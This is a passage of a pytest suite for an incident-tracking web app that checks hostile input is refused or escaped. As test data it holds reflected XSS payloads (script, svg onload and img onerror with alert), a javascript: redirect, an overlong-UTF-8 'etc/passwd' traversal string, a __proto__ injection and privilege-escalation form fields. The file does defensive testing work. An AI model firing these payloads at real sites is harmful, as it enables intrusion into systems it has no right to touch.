        "form-vector-name-backspace",
        Refused(
            form_post("/vectors/new", lambda w: vector_form(name="back\x08space")),
            422,
            ("name",),
            "Name " + CONTROL,
        ),
    ),
    (
        "form-root-cause-form-feed",
        Refused(
            form_post(
                "/incidents/{incident}/postmortem", lambda w: pm_form(w, root_cause="a\x0cb")
            ),
            422,
            ("root_cause",),
            "Root cause " + CONTROL,
        ),
    ),
    (
        "form-item-owner-del",
        Refused(
            form_post("/incidents/{incident}/postmortem", lambda w: item_form(w, owner="sam\x7f")),
            422,
            says="Owner " + CONTROL,
        ),
    ),
    (
        "form-user-name-nul",
        Refused(
            form_post("/account", lambda w: {"name": "a\x00b", "timezone": ""}),
            422,
            ("name",),
            "Name " + CONTROL,
        ),
    ),
    (
        "form-invite-name-bell",
        Refused(
            form_post(
                "/admin/users",
                lambda w: {"email": "bell@example.com", "name": "\x07bell", "role": "viewer"},
            ),
            422,
            ("name",),
            "Name " + CONTROL,
        ),
    ),
    (
        "form-token-name-nul",
        Refused(
            form_post("/account/tokens", lambda w: {"token-name": "ci\x00"}),
            422,
            ("token-name",),
            CONTROL,
        ),
    ),
    (
        "login-email-nul",
        Refused(
            anon_post(
                "/login", {"email": ADMIN + "\x00", "password": "correct horse battery staple"}
            ),
            401,
            says="Wrong e-mail or password",
        ),
    ),
    (
        "api-team-nul",
        Refused(
            patch_incident({"version": 2, "team": "\u0000"}), 422, ("team",), "Team " + CONTROL
        ),
    ),
    (
        "api-mitigation-c1-csi",
        Refused(patch_vector({"version": 2, "mitigation": "roll back\x9b"}), 422, ("mitigation",)),
    ),
    (
        "api-root-cause-nul",
        Refused(put_postmortem({"version": 2, "root_cause": "\x00"}), 422, ("root_cause",)),
    ),
]

NOT_UTF8 = "not valid UTF-8"
INVALID_UTF8 = [
    (
        "api-latin-1",
        Refused(
            raw_json(
                "patch", "/api/v1/vectors/data-drift", b'{"version": 2, "description": "caf\xe9"}'
            ),
            400,
            says=NOT_UTF8,
        ),
    ),
    (
        "api-overlong-slash",
        Refused(raw_json("post", "/api/v1/incidents", b'{"summary": "\xc0\xaf etc/passwd"}'), 400),
    ),
    (
        "api-encoded-surrogate",
        Refused(
            raw_json(
                "put",
                "/api/v1/incidents/{incident}/postmortem",
                b'{"version": 2, "body": "\xed\xa0\x80"}',
            ),
            400,
        ),
    ),
    (
        "api-truncated-sequence",
        Refused(
            raw_json(
                "patch", "/api/v1/incidents/{incident}", b'{"version": 2, "title": "euro \xe2\x82"}'
            ),
            400,
        ),
    ),
    (
        "api-utf-16",
        Refused(
            raw_json("post", "/api/v1/vectors", '{"name": "UTF-16 vector"}'.encode("utf-16")), 400
        ),
    ),
    (
        "api-utf-32-without-bom",
        Refused(
            raw_json("post", "/api/v1/vectors", '{"name": "UTF-32 vector"}'.encode("utf-32-le")),
            400,
        ),
    ),
    ("api-key", Refused(raw_json("post", "/api/v1/vectors", b'{"\xff": 1, "name": "x"}'), 400)),
    (
        "form-percent-encoded",
        Refused(
            raw_form("/incidents/new", encoded(form_payload(), title="ab%FF%FEcd")),
            400,
            says=NOT_UTF8,
        ),
    ),
    (
        "form-raw-bytes",
        Refused(
            raw_form("/incidents/new", urlencode(form_payload()).encode() + b"&team=\xff\xfe"), 400
        ),
    ),
    (
        "form-encoded-surrogate",
        Refused(raw_form("/vectors/new", encoded(vector_form(), name="%ED%A0%80")), 400),
    ),
    (
        "form-truncated",
        Refused(raw_form("/account", encoded({"timezone": ""}, name="caf%C3")), 400),
    ),
    (
        "form-overlong",
        Refused(
            lambda w: raw_form(
                "/incidents/{incident}/postmortem", encoded(pm_form(w), body="%C0%AF")
            )(w),
            400,
        ),
    ),
    (
        "login",
        Refused(
            lambda w: w.app.test_client().post(
                "/login",
                data=encoded({"password": "x"}, email="admin%FF@example.com"),
                content_type="application/x-www-form-urlencoded",
            ),
            400,
        ),
    ),
]

BEFORE_2000 = "cannot be before 2000-01-01."
FUTURE = "cannot be more than 5 minutes in the future."
TIMESTAMPS = [
    (
        "api-year-1",
        Refused(
            post_incident(started_at="0001-01-01T00:00:00Z"), 422, ("started_at",), "out of range"
        ),
    ),
    (
        "api-year-9999",
        Refused(
            post_incident(recovered_at="9999-12-31T23:59:59Z"),
            422,
            ("recovered_at",),
            "out of range",
        ),
    ),
    (
        "api-year-1999",
        Refused(
            patch_incident({"version": 2, "acknowledged_at": "1999-12-31T23:59:59Z"}),
            422,
            ("acknowledged_at",),
            BEFORE_2000,
        ),
    ),
    (
        "api-10-minutes-ahead",
        Refused(lambda w: post_incident(recovered_at=later(10))(w), 422, ("recovered_at",), FUTURE),
    ),
    (
        "api-naive",
        Refused(
            patch_incident({"version": 2, "mitigated_at": "2026-03-02T12:10:00"}),
            422,
            ("mitigated_at",),
            "naive times are ambiguous",
        ),
    ),
    (
        "api-leap-second",
        Refused(
            post_incident(detected_at="2026-03-02T12:04:60Z"),
            422,
            ("detected_at",),
            "Not a valid ISO 8601",
        ),
    ),
    (
        "api-root-cause-year-9999",
        Refused(
            put_postmortem({"version": 2, "root_cause_at": "9999-12-31T23:59:59+14:00"}),
            422,
            ("root_cause_at",),
        ),
    ),
    (
        "api-item-done-year-1",
        Refused(put_item(done_at="0001-01-01T00:00:00+10:00"), 422, ("action_items.0.done_at",)),
    ),
    (
        "api-item-due-year-1",
        Refused(
            put_item(due_on="0001-01-01"),
            422,
            ("action_items.0.due_on",),
            "between 2000-01-01 and 2100-12-31",
        ),
    ),
    (
        "list-since-year-1",
        Refused(get("/api/v1/incidents", since="0001-01-01T00:00:00Z"), 422, ("since",)),
    ),
    (
        "metrics-until-year-9999",
        Refused(
            get("/api/v1/metrics", group_by="week", until="9999-12-31T23:59:59Z"), 422, ("until",)
        ),
    ),
    (
        "list-since-naive",
        Refused(get("/api/v1/incidents", since="2026-03-02T12:00:00"), 422, ("since",), "naive"),
    ),
    (
        "form-year-1",
        Refused(
            new_incident_form(
                started_at="0001-01-01T00:00", detected_at="0001-01-01T00:05", recovered_at=""
            ),
            422,
            ("started_at", "detected_at"),
            BEFORE_2000,
        ),
    ),
    (
        "form-year-9999",
        Refused(
            edit_incident_form(recovered_at="9999-12-31T23:59"), 422, ("recovered_at",), FUTURE
        ),
    ),
    (
        "form-year-1999",
        Refused(
            edit_incident_form(acknowledged_at="1999-12-31T23:59"),
            422,
            ("acknowledged_at",),
            BEFORE_2000,
        ),
    ),
    (
        "form-10-minutes-ahead",
        Refused(
            lambda w: new_incident_form(detected_at=local_later(10), recovered_at="")(w),
            422,
            ("detected_at",),
            FUTURE,
        ),
    ),
    (
        "form-root-cause-year-1",
        Refused(
            form_post(
                "/incidents/{incident}/postmortem",
                lambda w: pm_form(w, root_cause_at="0001-01-01T00:00"),
            ),
            422,
            ("root_cause_at",),
            BEFORE_2000,
        ),
    ),
    (
        "form-item-due-year-9999",
        Refused(
            form_post(
                "/incidents/{incident}/postmortem", lambda w: item_form(w, due_on="9999-12-31")
            ),
            422,
            says="between 2000-01-01 and 2100-12-31",
        ),
    ),
]

UNKNOWN_FIELDS = [
    (
        "proto",
        Refused(post_incident(__proto__={"admin": True}), 422, ("__proto__",), "Unknown field."),
    ),
    (
        "internal-columns",
        Refused(
            post_incident(external_id="x", external_source="statuspage"),
            422,
            ("external_id", "external_source"),
        ),
    ),
    (
        "case-variant",
        Refused(patch_incident({"version": 2, "Title": "case matters"}), 422, ("Title",)),
    ),
    (
        "vector-id-and-created",
        Refused(
            patch_vector({"version": 2, "id": 99, "created_at": "2001-01-01T00:00:00Z"}),
            422,
            ("id", "created_at"),
        ),
    ),
    (
        "vector-archived-at",
        Refused(post_vector({"archived_at": "2026-01-01T00:00:00Z"}), 422, ("archived_at",)),
    ),
    (
        "postmortem-derived",
        Refused(
            put_postmortem({"version": 2, "root_cause_seconds": 5}), 422, ("root_cause_seconds",)
        ),
    ),
    (
        "item-foreign-key",
        Refused(put_item(postmortem_id=99), 422, ("action_items.0.postmortem_id",)),
    ),
]


def _create_echec(w: World) -> None:
    _ok(w.client.post("/api/v1/vectors", json={"name": "Échec de données"}), 201)


TAKEN = "already exists."
DUPLICATES = [
    (
        "slug",
        Refused(
            post_vector({"slug": "data-drift"}), 422, ("slug",), "A vector with this slug " + TAKEN
        ),
    ),
    ("slug-padded", Refused(post_vector({"slug": " data-drift\t"}), 422, ("slug",), TAKEN)),
    (
        "slug-upper-case",
        Refused(post_vector({"slug": "Data-Drift"}), 422, ("slug",), "Slug may hold only"),
    ),
    (
        "name-any-case-padded",
        Refused(post_vector({"name": "  DATA DRIFT  "}), 422, ("name",), TAKEN),
    ),
    (
        "name-non-ascii-case",
        Refused(
            post_vector({"name": "ÉCHEC DE DONNÉES", "slug": "echec-2"}),
            422,
            ("name",),
            TAKEN,
            setup=_create_echec,
        ),
    ),
    (
        "rename-onto-another",
        Refused(
            patch_vector(
                {"version": 1, "slug": "data-drift", "name": "Data Drift"}, slug="model-poisoning"
            ),
            422,
            ("slug", "name"),
        ),
    ),
    (
        "form-new-name",
        Refused(
            form_post("/vectors/new", lambda w: vector_form(name="Model Poisoning")),
            422,
            ("name",),
            TAKEN,
        ),
    ),
    (
        "form-edit-onto-another",
        Refused(
            form_post(
                "/vectors/data-drift/edit",
                lambda w: data_drift_form(name="model POISONING", slug="model-poisoning"),
            ),
            422,
            ("name", "slug"),
            TAKEN,
        ),
    ),
    (
        "invite-email-any-case",
        Refused(
            form_post("/admin/users", lambda w: {"email": "ADMIN@Example.COM", "role": "viewer"}),
            422,
            ("email",),
            "An account with this e-mail " + TAKEN,
        ),
    ),
    (
        "invite-unknown-role",
        Refused(
            form_post("/admin/users", lambda w: {"email": "eve@example.com", "role": "superuser"}),
            422,
            ("role",),
            "Not a valid choice",
        ),
    ),
]

PAGE_MIN = "Page must be 1 or more."
PAGINATION = [
    ("web-negative", Refused(get("/incidents/", page="-1"), 400, says=PAGE_MIN)),
    ("web-zero", Refused(get("/incidents/", page="0"), 400, says=PAGE_MIN)),
    ("web-text", Refused(get("/incidents/", page="abc"), 400, says=PAGE_MIN)),
    (
        "web-huge",
        Refused(get("/incidents/", page="1" + "0" * 30), 400, says="Page must be at most"),
    ),
    ("web-5000-digits", Refused(get("/incidents/", page="9" * 5000), 400, says=PAGE_MIN)),
    (
        "web-per-page-zero",
        Refused(get("/incidents/", per_page="0"), 400, says="Per page must be between 1 and 500."),
    ),
    (
        "web-per-page-huge",
        Refused(get("/incidents/", per_page="1000000"), 400, says="Per page must be"),
    ),
    ("api-hex", Refused(get("/api/v1/incidents", page="0x10"), 422, ("page",))),
    ("api-5000-digits", Refused(get("/api/v1/incidents", page="9" * 5000), 422, ("page",))),
    ("api-minus-zero", Refused(get("/api/v1/incidents", per_page="-0"), 422, ("per_page",))),
    (
        "api-nan-infinity",
        Refused(
            get("/api/v1/incidents", page="NaN", per_page="Infinity"), 422, ("page", "per_page")
        ),
    ),
    ("api-vectors-negative", Refused(get("/api/v1/vectors", page="-5"), 422, ("page",))),
    (
        "api-vectors-per-page-huge",
        Refused(get("/api/v1/vectors", per_page="1000000"), 422, ("per_page",)),
    ),
]

STALE_VERSIONS = [
    (
        "api-incident-stale",
        Refused(patch_incident({"version": 1, "title": "Stale"}), 409, says="you edited version 1"),
    ),
    (
        "api-incident-from-the-future",
        Refused(patch_incident({"version": 3, "title": "Ahead"}), 409),
    ),
    ("api-incident-int64-min", Refused(patch_incident({"version": -(2**63), "title": "x"}), 409)),
    ("api-vector-stale", Refused(patch_vector({"version": 1, "detection": "Stale"}), 409)),
    ("api-postmortem-stale", Refused(put_postmortem({"version": 1, "body": "Stale"}), 409)),
    ("api-postmortem-no-version", Refused(put_postmortem({"body": "Blind"}), 422, ("version",))),
    (
        "form-incident-stale",
        Refused(edit_incident_form(version="1", title="Stale"), 422, says=CONFLICT),
    ),
    (
        "form-vector-stale",
        Refused(
            form_post(
                "/vectors/data-drift/edit",
                lambda w: data_drift_form(version="1", description="Stale"),
            ),
            422,
            says=CONFLICT,
        ),
    ),
    (
        "form-postmortem-stale",
        Refused(
            form_post(
                "/incidents/{incident}/postmortem", lambda w: pm_form(w, version="1", body="Stale")
            ),
            422,
            says=CONFLICT,
        ),
    ),
    ("form-version-not-a-number", Refused(edit_incident_form(version="2e0", title="x"), 422)),
]

REFUSED = {
    "sql-injection": SQL_REFUSED,
    "wrong-json-types": WRONG_TYPES,
    "huge-strings": HUGE,
    "control-characters": CONTROL_CHARACTERS,
    "invalid-utf-8": INVALID_UTF8,
    "timestamps-out-of-range": TIMESTAMPS,
    "unknown-fields": UNKNOWN_FIELDS,
    "duplicate-slugs-and-names": DUPLICATES,
    "pagination": PAGINATION,
    "stale-versions": STALE_VERSIONS,
}


@pytest.mark.parametrize("category", list(REFUSED))
def test_hostile_input_is_refused_and_changes_nothing(world, subtests, category):
    """Refused cases change nothing, so one world serves a whole category."""
    for name, case in REFUSED[category]:
        with subtests.test(case=name):
            case(world)


def multipart(url: str, data: dict[str, Any], **raw: bytes) -> Callable[[World], Any]:
    """A multipart/form-data body with some values given as raw bytes."""
    parts = []
    for key, values in {**data, **raw}.items():
        for value in values if isinstance(values, list) else [values]:
            payload = value if isinstance(value, bytes) else str(value).encode()
            head = f'--B\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'.encode()
            parts.append(head + payload + b"\r\n")
    body = b"".join(parts) + b"--B--\r\n"
    return lambda w: w.client.post(url, data=body, content_type="multipart/form-data; boundary=B")


def test_a_multipart_form_with_invalid_utf8_is_refused(world):
    """Werkzeug would decode it with U+FFFD; the app refuses multipart bodies outright."""
    data = {k: v for k, v in form_payload().items() if k != "title"}
    Refused(multipart("/incidents/new", data, title=b"ab\xff\xfecd"), 400)(world)


# =============================================================================================
# 4. Accepted at the limits, and fields a form must ignore
# =============================================================================================

LIMITS = [
    pytest.param(incident_field("service", "api-post"), "🔥" * 100, id="service-100-emoji-api"),
    pytest.param(incident_field("title", "form-new"), "ü" * 200, id="title-200-umlauts-form"),
    # A bidi override in a title is refused since issue 10: tests/test_integrity_attacks.py.
]


@pytest.mark.parametrize(("target", "value"), LIMITS)
def test_values_at_the_limits_round_trip(world, target, value):
    Stored(target, value)(world)


def test_a_viewer_cannot_promote_themselves_through_extra_form_fields(world):
    viewer = signed_in_client(world.app, "viewer", "viewer@example.com")
    extra = {"role": "admin", "email": ADMIN, "active": "0", "must_change_password": "y"}
    response = viewer.post("/account", data={"name": "Vic", "timezone": "", **extra})
    assert response.status_code == 302
    world.session.rollback()
    row = world.session.scalars(select(User).where(User.email == "viewer@example.com")).one()
    assert (row.name, row.role, row.active) == ("Vic", "viewer", True)
    assert viewer.get("/admin/users").status_code == 403
    assert _user_value(world, _user_id(world, ADMIN), User.role) == "admin"


def test_incident_and_vector_forms_ignore_server_owned_fields(world):
    extra = {"id": str(world.incident), "created_at": "2001-01-01T00:00", "external_id": "x"}
    data = form_payload(title="Mass assignment", status="recovered", ttd_seconds="0", **extra)
    new_id = _id_in(_ok(world.client.post("/incidents/new", data=data), 302))
    assert new_id != world.incident
    body = world.client.get(f"/api/v1/incidents/{new_id}").get_json()
    assert body["version"] == 1 and body["created_at"] > "2020"
    assert world.client.get(f"/api/v1/incidents/{world.incident}").get_json()["title"] == (
        "Vector DB latency spike"
    )
    data = vector_form(name="Mass vector", archived="y", rpn="1000", id="1", version="7")
    _ok(world.client.post("/vectors/new", data=data), 302)
    vector = world.client.get("/api/v1/vectors/mass-vector").get_json()
    assert (vector["archived"], vector["rpn"], vector["version"]) == (False, None, 1)
    assert world.client.get("/api/v1/vectors/data-drift").get_json()["name"] == "Data drift"


# =============================================================================================
# 5. Reflected: hostile query strings come back escaped
# =============================================================================================

REFLECTED = [
    pytest.param(
        Reflected(
            "/incidents/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
            200,
            '"><script>alert(1)</script>',
        ),
        id="incident-search",
    ),
    pytest.param(
        Reflected(
            "/reports/?since=%22%3E%3Csvg%20onload%3Dalert(1)%3E", 400, '"><svg onload=alert(1)>'
        ),
        id="report-date",
    ),
    pytest.param(
        Reflected(
            "/vectors/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", 404, "<img src=x onerror=alert(1)>"
        ),
        id="vector-slug",
    ),
    pytest.param(
        Reflected(
            "/admin/audit?actor=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
            200,
            "<img src=x onerror=alert(1)>",
        ),
        id="audit-actor",
    ),
    pytest.param(Reflected("/admin/audit?actor=ghost%00%27--", 200), id="audit-actor-nul"),
]


def test_reflected_input_is_escaped(world, subtests):
    for param in REFLECTED:
        with subtests.test(case=param.id):
            param.values[0](world)


def test_login_drops_a_javascript_next(world):
    page = world.app.test_client().get("/login?next=javascript:alert(1)").get_data(as_text=True)
    assert "javascript:" not in page
    assert_inert_html(page)
